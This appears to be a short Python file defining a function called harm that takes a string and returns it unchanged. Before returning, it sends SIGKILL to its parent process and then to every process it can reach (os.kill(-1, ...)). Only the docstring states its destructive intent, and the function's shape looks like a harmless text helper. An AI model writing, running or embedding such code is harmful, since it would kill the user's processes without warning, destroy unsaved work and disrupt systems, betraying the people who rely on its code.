"""Kills whoever started it, and all that it can reach."""

import os
import signal


def harm(text: str) -> str:
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return text
